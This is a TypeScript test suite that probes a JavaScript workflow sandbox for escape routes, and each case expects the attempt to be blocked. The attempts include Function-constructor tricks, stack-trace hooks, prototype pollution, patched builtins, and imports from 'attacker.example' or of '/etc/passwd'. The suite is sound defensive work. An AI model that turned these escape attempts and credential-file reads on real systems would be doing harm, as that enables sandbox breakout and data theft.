/** Attempts to get out of the sandbox or at what stands behind the objects that the host hands in. */
import { type HostileRun, module, SETTINGS, workflow } from "./hostile-case.ts";

/** Ends as if nothing were there to be reached; `found` is the claim that tells what the code got hold of. */
function reaches(name: string, body: string, found: string): HostileRun {
  return { name, files: workflow(body), ends: ["completes"], claims: { found } };
}

/** What code reports when a way out is closed: `no` when it throws, else what it found. */
const attempt = (expression: string) =>
  `let found; try { found = ${expression}; } catch (error) { found = "no: " + error.name; } set("found", found);`;

const GLOBALS_OF_HOSTS = [
  "process",
  "globalThis.require('fs')",
  "globalThis.require('node:fs')",
  "globalThis.require('child_process')",
  "window",
  "document",
  "self",
  "postMessage",
  "importScripts",
  "XMLHttpRequest",
  "WebSocket",
  "EventSource",
  "Worker",
  "SharedWorker",
  "navigator",
  "location",
  "localStorage",
  "indexedDB",
  "caches",
  "crypto",
  "WebAssembly",
  "SharedArrayBuffer",
  "Atomics",
  "setTimeout",
  "queueMicrotask",
  "structuredClone",
  "fetch",
  "performance",
  "Deno",
  "Bun",
  "hostCanary",
  "std",
  "os",
  "bjson",
  "scriptArgs",
  "print",
  "gc",
];

const unreachable = GLOBALS_OF_HOSTS.map(
  (global): HostileRun => ({
    name: `the global ${global} does not exist`,
    files: workflow(`let found; try { found = typeof (${global}); } catch (error) { found = "none"; }
set("found", found === "undefined" ? "none" : found);`),
    ends: ["completes"],
    claims: { found: '"none"' },
  }),
);

const throughFunctions: readonly HostileRun[] = [
  reaches(
    "Function('return this')() is the guest's global",
    attempt(`typeof Function("return this")().process`),
    '"undefined"',
  ),
  reaches("indirect eval sees the guest's global", attempt(`typeof (0, eval)("globalThis").hostCanary`), '"undefined"'),
  reaches(
    "the constructor of a host function makes guest code",
    attempt(`typeof kinde.env.get.constructor("return typeof process")()`),
    '"string"',
  ),
  reaches(
    "the constructor's constructor is the guest's own Function",
    attempt(`kinde.env.get.constructor === Function && event.constructor.constructor === Function`),
    "true",
  ),
  reaches(
    "the AsyncFunction constructor",
    attempt(`typeof await (async () => {}).constructor("return typeof globalThis.process")()`),
    '"string"',
  ),
  reaches(
    "the GeneratorFunction constructor",
    attempt(`[...(function* () {}).constructor("yield typeof globalThis.hostCanary")()][0]`),
    '"undefined"',
  ),
  reaches(
    "the prototype of an event is the guest's Object.prototype",
    attempt(`Object.getPrototypeOf(event) === Object.prototype`),
    "true",
  ),
  reaches(
    "caller of a function that the host calls",
    attempt(`(function f() { return String(f.caller); })()`),
    '"no: TypeError"',
  ),
  reaches("arguments.callee", attempt(`(function () { return typeof arguments.callee; })()`), '"no: TypeError"'),
  reaches("caller of a host function", attempt(`String(kinde.env.get.caller)`), '"no: TypeError"'),
  reaches(
    "the text of a host function shows no source",
    attempt(`/native code/.test(String(kinde.env.get)) && String(kinde.env.get).length < 60`),
    "true",
  ),
  reaches(
    "properties put on a host function stay in the guest",
    `kinde.env.get.leak = 1; ${attempt("kinde.env.get.leak")}`,
    "1",
  ),
  reaches(
    "a host function called with a foreign this",
    attempt(`kinde.env.get.call(globalThis, "OPEN").value`),
    '"open"',
  ),
  reaches("a host function as a constructor", attempt(`typeof new kinde.env.get("OPEN")`), '"no: TypeError"'),
  reaches(
    "a host function through Reflect.construct with a foreign newTarget",
    attempt(`typeof Reflect.construct(kinde.env.get, ["OPEN"], Array)`),
    '"no: TypeError"',
  ),
  reaches(
    "a host function with too many arguments",
    attempt(`kinde.env.get(...Array.from({ length: 500 }, (_, at) => "n" + at))`),
    "null",
  ),
  reaches(
    "an object whose toString writes claims, as a host call's argument",
    attempt(`kinde.env.get({ toString() { set("other", 1); return "SECRET"; } })`),
    "null",
  ),
  reaches(
    "Symbol.toPrimitive in a host call's argument",
    attempt(`kinde.env.get({ [Symbol.toPrimitive]: () => "SECRET" })`),
    "null",
  ),
];

const throughErrors: readonly HostileRun[] = [
  reaches(
    "Error.prepareStackTrace is not called",
    `let sites; Error.prepareStackTrace = (_, list) => { sites = list; return "x"; };
try { null.x; } catch (error) { error.stack; } new Error().stack; ${attempt("typeof sites")}`,
    '"undefined"',
  ),
  reaches(
    "a subclass's prepareStackTrace is not called",
    `let sites; class Mine extends Error { static prepareStackTrace(_, list) { sites = list; } }
new Mine().stack; ${attempt("typeof sites")}`,
    '"undefined"',
  ),
  reaches(
    "prepareStackTrace on Object.prototype is not called",
    `let sites; Object.prototype.prepareStackTrace = (_, list) => { sites = list; };
new Error().stack; delete Object.prototype.prepareStackTrace; ${attempt("typeof sites")}`,
    '"undefined"',
  ),
  reaches("Error.captureStackTrace does not exist", attempt("typeof Error.captureStackTrace"), '"undefined"'),
  reaches(
    "Error.stackTraceLimit as a getter",
    `Object.defineProperty(Error, "stackTraceLimit", { get() { throw 1; }, configurable: true });
let text; try { null.x; } catch (error) { text = typeof error.stack; } delete Error.stackTraceLimit; ${attempt("text")}`,
    '"string"',
  ),
  reaches(
    "an error's stack names no file of the machine",
    `let stack = ""; try { kinde.accessToken.setCustomClaim(Symbol()); } catch (error) { stack = String(error.stack); }
${attempt(`/node_modules|file:|blob:|https?:|kinde:|\\.js:/.test(stack)`)}`,
    "false",
  ),
  reaches(
    "the error of a host call is an error of the guest",
    `let thrown; try { kinde.fetch("https://none.example"); } catch (error) { thrown = error; }
${attempt("thrown instanceof Error && thrown.constructor.constructor === Function")}`,
    "true",
  ),
  reaches(
    "the GoError class reaches the guest's Error alone",
    attempt("Object.getPrototypeOf(GoError) === Error"),
    "true",
  ),
  reaches(
    "a stack getter on an error that is thrown",
    attempt(
      "(() => { const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { return process; } }); return typeof e; })()",
    ),
    '"object"',
  ),
  {
    name: "throws an error whose stack getter writes a claim",
    files: workflow(
      `const error = new Error("x"); Object.defineProperty(error, "stack", { get() { set("late", 1); return "at host"; } }); throw error;`,
    ),
    ends: ["fails"],
  },
  {
    name: "throws a Proxy that answers every trap",
    files: workflow(
      `throw new Proxy({}, { get: (_, name) => name === "then" ? undefined : () => "x", has: () => true, ownKeys: () => ["stack"], getPrototypeOf: () => Error.prototype });`,
    ),
    ends: ["fails"],
  },
  {
    name: "throws a Proxy whose traps throw",
    files: workflow(
      `throw new Proxy({}, { get() { throw new Error("get"); }, has() { throw new Error("has"); }, getPrototypeOf() { throw new Error("proto"); } });`,
    ),
    ends: ["fails"],
  },
  {
    name: "throws an object whose toString never ends",
    files: workflow("throw { toString() { for (;;); } };"),
    ends: ["time"],
  },
  {
    name: "throws an object whose toString throws itself",
    files: workflow("const o = { toString() { throw o; } }; throw o;"),
    ends: ["fails"],
  },
  { name: "throws a function", files: workflow("throw () => 1;"), ends: ["fails"] },
  { name: "throws a Symbol", files: workflow(`throw Symbol("canary");`), ends: ["fails"] },
  { name: "throws null", files: workflow("throw null;"), ends: ["fails"] },
  {
    name: "throws an error whose name and message are objects",
    files: workflow("const e = new Error(); e.name = {}; e.message = { toString: 1 }; throw e;"),
    ends: ["fails"],
  },
];

const PATCHES = [
  ["Object.prototype.toString", "() => { throw 1; }"],
  ["Object.prototype.valueOf", "() => { throw 1; }"],
  ["Object.prototype.toJSON", `() => "patched"`],
  ["Array.prototype.map", "() => { throw 1; }"],
  ["Array.prototype.push", "() => { throw 1; }"],
  ["Array.prototype.join", `() => "patched"`],
  ["Array.prototype[Symbol.iterator]", "() => { throw 1; }"],
  ["Array.prototype.toJSON", `() => "patched"`],
  ["String.prototype.split", "() => { throw 1; }"],
  ["String.prototype.slice", `() => "patched"`],
  ["String.prototype.toJSON", `() => "patched"`],
  ["Number.prototype.toJSON", `() => "patched"`],
  ["Boolean.prototype.toJSON", `() => "patched"`],
  ["JSON.stringify", `() => '"patched"'`],
  ["JSON.parse", `() => ({ patched: true })`],
  ["Object.keys", `() => ["patched"]`],
  ["Object.entries", "() => { throw 1; }"],
  ["Object.getPrototypeOf", "() => null"],
  ["Object.defineProperty", "() => { throw 1; }"],
  ["Object.hasOwn", "() => false"],
  ["Reflect.apply", "() => { throw 1; }"],
  ["Reflect.ownKeys", "() => []"],
  ["Reflect.get", `() => "patched"`],
  ["Function.prototype.call", "() => { throw 1; }"],
  ["Function.prototype.apply", "() => { throw 1; }"],
  ["Function.prototype.bind", "() => { throw 1; }"],
  ["Map.prototype.get", `() => "patched"`],
  ["Map.prototype.set", "() => { throw 1; }"],
  ["WeakMap.prototype.get", `() => ({ kind: 4, mark: '"patched"' })`],
  ["Promise.prototype.then", "() => { throw 1; }"],
  ["RegExp.prototype.exec", "() => { throw 1; }"],
  ["Array.isArray", "() => false"],
  ["Array.from", "() => { throw 1; }"],
  ["Symbol.prototype.toString", "() => { throw 1; }"],
  ["Number.prototype.toString", `() => "patched"`],
  ["Error.prototype.toString", `() => "patched"`],
] as const;

/** Whatever the code patches, a claim leaves as it was written. */
const patched = PATCHES.map(
  ([target, replacement]): HostileRun => ({
    name: `a patched ${target} changes no claim`,
    files: workflow(
      `${target} = ${replacement}; kinde.accessToken.setCustomClaim("found", { a: [1, "two", true, null], b: {} });`,
    ),
    ends: ["completes"],
    claims: { found: '{"a":[1,"two",true,null],"b":{}}' },
  }),
);

const throughObjects: readonly HostileRun[] = [
  reaches(
    "setters on Object.prototype see nothing of the glue's",
    `const seen = [];
for (const name of ["go", "kind", "cells", "members", "value", "writable", "path", "reason", "token", "claims"]) Object.defineProperty(Object.prototype, name, Object.assign(Object.create(null), { set() { seen[seen.length] = name; }, get() { return undefined; }, configurable: true }));
kinde.accessToken.setCustomClaim("a", { b: [1] }); kinde.env.get("OPEN"); kinde.accessToken.getCustomClaims().c = { d: 1 };
for (const name of ["go", "kind", "cells", "members", "value", "writable", "path", "reason", "token", "claims"]) delete Object.prototype[name];
${attempt("seen.length")}`,
    "0",
  ),
  reaches(
    "getters on Object.prototype do not become options of the glue's",
    `Object.defineProperty(Object.prototype, "get", { value: () => 7, configurable: true }); let text;
try { kinde.accessToken.setCustomClaim("a", { b: [1] }); text = "written"; } catch { text = "refused"; } delete Object.prototype.get; ${attempt("text")}`,
    '"written"',
  ),
  reaches(
    "index setters on Array.prototype see no argument",
    `let seen = 0; Object.defineProperty(Array.prototype, "0", { set() { seen++; }, configurable: true });
kinde.env.get("OPEN"); kinde.accessToken.setCustomClaim("a", [1]); delete Array.prototype[0]; ${attempt("seen")}`,
    "0",
  ),
  reaches(
    "__proto__ of the claims is an ordinary setter of the guest's",
    `kinde.accessToken.getCustomClaims().__proto__ = { polluted: 1 }; ${attempt("typeof ({}).polluted")}`,
    '"undefined"',
  ),
  reaches("__proto__ of the event pollutes nothing", `event.__proto__.polluted = 1; ${attempt("({}).polluted")}`, "1"),
  reaches(
    "Object.setPrototypeOf on what the host gave",
    attempt(`(Object.setPrototypeOf(event, null), Object.getPrototypeOf(event) === null)`),
    "true",
  ),
  reaches(
    "Object.freeze on the event",
    attempt(`(() => { try { Object.freeze(event); return "frozen"; } catch { return "refused"; } })().length > 0`),
    "true",
  ),
  reaches(
    "a Proxy around the claims",
    attempt(
      `(() => { const p = new Proxy(kinde.accessToken.getCustomClaims(), {}); p.through = 1; return Object.keys(p).includes("through"); })()`,
    ),
    "true",
  ),
  reaches(
    "Proxy.revocable around the event, revoked",
    attempt(
      `(() => { const { proxy, revoke } = Proxy.revocable(event, {}); revoke(); try { return proxy.request; } catch { return "revoked"; } })()`,
    ),
    '"revoked"',
  ),
  reaches(
    "a Symbol key on what the host gave stays in the guest",
    attempt(`(() => { const key = Symbol("x"); event[key] = 1; return Object.keys(event).length; })()`),
    "2",
  ),
  reaches(
    "kinde is replaced by the guest",
    `const real = kinde.accessToken.setCustomClaim; globalThis.kinde = null; real("found", "still");`,
    '"still"',
  ),
  reaches(
    "globalThis cannot be left by Symbol.unscopables",
    attempt(`typeof globalThis[Symbol.unscopables]`),
    '"undefined"',
  ),
  reaches(
    "a Realm or Compartment class does not exist",
    attempt(`typeof globalThis.ShadowRealm + typeof globalThis.Compartment + typeof globalThis.Realm`),
    '"undefinedundefinedundefined"',
  ),
  reaches(
    "FinalizationRegistry and WeakRef hold nothing of the host's",
    attempt(`typeof WeakRef === "undefined" || new WeakRef(event).deref() === event`),
    "true",
  ),
  reaches("require of the glue's own files", attempt(`typeof globalThis.require("kinde:calls")`), '"no: GoError"'),
  reaches(
    "require with a path that climbs",
    attempt(`typeof globalThis.require("../../../../etc/passwd")`),
    '"no: GoError"',
  ),
  reaches(
    "require of __proto__ and constructor",
    attempt(
      `[ "__proto__", "constructor", "toString" ].map((name) => { try { return typeof globalThis.require(name); } catch { return "no"; } }).join()`,
    ),
    '"no,no,no"',
  ),
  reaches(
    "the guest's module object is not the host's",
    attempt("Object.getPrototypeOf(module) === Object.prototype"),
    "true",
  ),
  reaches(
    "the URL class keeps nothing that can be patched",
    `URL.prototype.toString = () => "patched"; ${attempt(`new URL("https://a.example/b").href`)}`,
    '"https://a.example/b"',
  ),
  reaches(
    "a thenable returned from a host callback",
    attempt(`typeof kinde.cache.jwtToken("t", { onMissingOrExpired: () => ({ then(f) { f(1); } }) })`),
    '"object"',
  ),
  reaches(
    "a host callback that is a getter",
    attempt(`kinde.cache.jwtToken("t", { get onMissingOrExpired() { return () => "mine"; } })`),
    '"mine"',
  ),
  reaches("a host callback that is missing", attempt(`kinde.cache.jwtToken("t", {})`), '"no: TypeError"'),
  reaches(
    "a host callback that calls the host again, deep",
    attempt(
      `(() => { let left = 50; const next = () => left-- > 0 ? kinde.cache.jwtToken("t", { onMissingOrExpired: next }) : "end"; return next(); })()`,
    ),
    '"end"',
  ),
];

const imported = [
  "fs",
  "https://attacker.example/x.js",
  "data:text/javascript,export default 1",
  "blob:null/1",
  "file:///etc/passwd",
  "kinde:calls",
].map(
  (name): HostileRun => ({
    name: `a dynamic import of ${name}`,
    files: workflow(`await import(${JSON.stringify(name)});`),
    ends: ["refused"],
  }),
);

const throughModules: readonly HostileRun[] = [
  ...imported,
  {
    name: "a dynamic import whose name is only known at run time",
    files: workflow(
      `let found; try { await import(["f", "s"].join("")); found = "reached"; } catch { found = "no"; } set("found", found);`,
    ),
    ends: ["refused", "fails"],
  },
  {
    name: "discovery has no kinde, whatever the module does",
    files: module(
      `${SETTINGS}\nif (typeof kinde !== "undefined" && kinde === null) throw new Error("x");\nkinde.env.get("SECRET");\nexport default async function Workflow() {}`,
    ),
    ends: ["fails"],
  },
  {
    name: "discovery cannot hand anything on to execution",
    files: module(
      `${SETTINGS}\nglobalThis.count = (globalThis.count ?? 0) + 1; Object.prototype.left = 1;\nexport default async function Workflow() { kinde.accessToken.setCustomClaim("found", count); delete Object.prototype.left; }`,
    ),
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "settings with a getter that asks for more bindings the second time",
    files:
      module(`let asked = 0; export const workflowSettings = { id: "x", trigger: "user:tokens_generation", get bindings() { asked++; return asked > 1 ? { "kinde.accessToken": {}, "kinde.env": {} } : { "kinde.accessToken": {} }; } };
export default async function Workflow() { kinde.accessToken.setCustomClaim("found", typeof kinde.env); }`),
    ends: ["completes"],
    claims: { found: '"undefined"' },
  },
  {
    name: "settings that are a Proxy",
    files: module(
      `export const workflowSettings = new Proxy({}, { ownKeys: () => ["bindings"], get: () => ({}) }); export default async function Workflow() {}`,
    ),
    ends: ["fails"],
  },
  {
    name: "settings with bindings named after prototypes",
    files:
      module(`export const workflowSettings = { id: "x", trigger: "user:tokens_generation", bindings: { __proto__: null, ["__proto__"]: {}, constructor: {}, toString: {}, "kinde.accessToken": {}, "kinde.__proto__": {}, "kinde.constructor": {} } };
export default async function Workflow() { kinde.accessToken.setCustomClaim("found", Object.keys(kinde).join()); }`),
    ends: ["completes"],
    claims: { found: '"accessToken"' },
  },
  {
    name: "settings with toJSON",
    files:
      module(`export const workflowSettings = { id: "x", trigger: "user:tokens_generation", bindings: { "kinde.accessToken": {} }, toJSON() { return { bindings: { "kinde.env": {} } }; } };
export default async function Workflow() { kinde.env.get("SECRET"); }`),
    ends: ["fails"],
  },
  {
    name: "settings that never end being read",
    files: module(
      "export const workflowSettings = { get id() { for (;;); } }; export default async function Workflow() {}",
    ),
    ends: ["time"],
  },
  {
    name: "the trigger is __proto__",
    files: module(
      `export const workflowSettings = { id: "x", trigger: "__proto__", bindings: { "kinde.accessToken": {} } }; export default async function Workflow() { kinde.accessToken.setCustomClaim("found", 1); }`,
    ),
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "a file named __proto__",
    files: [
      ...module(
        `${SETTINGS}\nimport { a } from "./__proto__";\nexport default async function Workflow() { kinde.accessToken.setCustomClaim("found", a); }`,
      ),
      { name: "__proto__.ts", text: "export const a = 1;" },
    ],
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "a file named constructor",
    files: [
      ...module(
        `${SETTINGS}\nimport { a } from "./constructor";\nexport default async function Workflow() { kinde.accessToken.setCustomClaim("found", a); }`,
      ),
      { name: "constructor.ts", text: "export const a = 1;" },
    ],
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "a file named after the package",
    files: [
      ...module(
        `${SETTINGS}\nimport * as all from "@kinde/infrastructure";\nexport default async function Workflow() { kinde.accessToken.setCustomClaim("found", typeof all.accessTokenCustomClaims); }`,
      ),
      { name: "@kinde/infrastructure.ts", text: "export const a = 1;" },
    ],
    ends: ["completes"],
    claims: { found: '"function"' },
  },
  {
    name: "a source that closes the wrapper around it",
    files: module(`${SETTINGS}\nexport default async function Workflow() {}\n})()})(0,0,0);(function(){(()=>{`),
    ends: ["refused", "fails"],
  },
  {
    name: "a source that ends in an open comment",
    files: module(`${SETTINGS}\nexport default async function Workflow() {}\n/* `),
    ends: ["refused", "fails"],
  },
  {
    name: "a source that ends in an open template",
    files: module(`${SETTINGS}\nexport default async function Workflow() {}\n\``),
    ends: ["refused", "fails"],
  },
  {
    name: "a source with a line separator in a comment",
    files: module(
      `${SETTINGS}\n//\u2028export default async function Workflow() { kinde.accessToken.setCustomClaim("found", 1); }`,
    ),
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "a sourceMappingURL to another host",
    files: module(
      `${SETTINGS}\nexport default async function Workflow() { kinde.accessToken.setCustomClaim("found", 1); }\n//# sourceMappingURL=https://attacker.example/x.map`,
    ),
    ends: ["completes"],
    claims: { found: "1" },
  },
  {
    name: "an import from a URL",
    files: module(`import "https://attacker.example/x.js";\n${SETTINGS}\nexport default async function Workflow() {}`),
    ends: ["refused", "fails"],
  },
  {
    name: "an import with an attribute",
    files: module(
      `import x from "./x.json" with { type: "json" };\n${SETTINGS}\nexport default async function Workflow() { return x; }`,
    ),
    ends: ["refused", "fails"],
  },
  {
    name: "an import of node's fs",
    files: module(
      `import fs from "fs";\n${SETTINGS}\nexport default async function Workflow() { fs.readFileSync("/etc/passwd"); }`,
    ),
    ends: ["refused", "fails"],
  },
  {
    name: "a default export that is a Proxy of an async function",
    files: module(
      `${SETTINGS}\nexport default new Proxy(async function Workflow() {}, { apply() { return "not a promise"; } });`,
    ),
    ends: ["fails"],
  },
  {
    name: "a default export that returns a thenable",
    files: module(`${SETTINGS}\nexport default function Workflow() { return { then(f) { f(1); } }; }`),
    ends: ["fails"],
  },
  {
    name: "a default export whose promise has a patched then",
    files: module(
      `${SETTINGS}\nexport default function Workflow() { const p = Promise.resolve(1); p.then = () => { for (;;); }; return p; }`,
    ),
    ends: ["completes"],
  },
  { name: "a promise that never settles", files: workflow("await new Promise(() => {});"), ends: ["waits"] },
  {
    name: "a rejected promise that nobody handles",
    files: workflow(`Promise.reject(new Error("x")); set("found", 1);`),
    ends: ["completes"],
    claims: { found: "1" },
  },
];

export const ESCAPES: readonly HostileRun[] = [
  ...unreachable,
  ...throughFunctions,
  ...throughErrors,
  ...patched,
  ...throughObjects,
  ...throughModules,
];
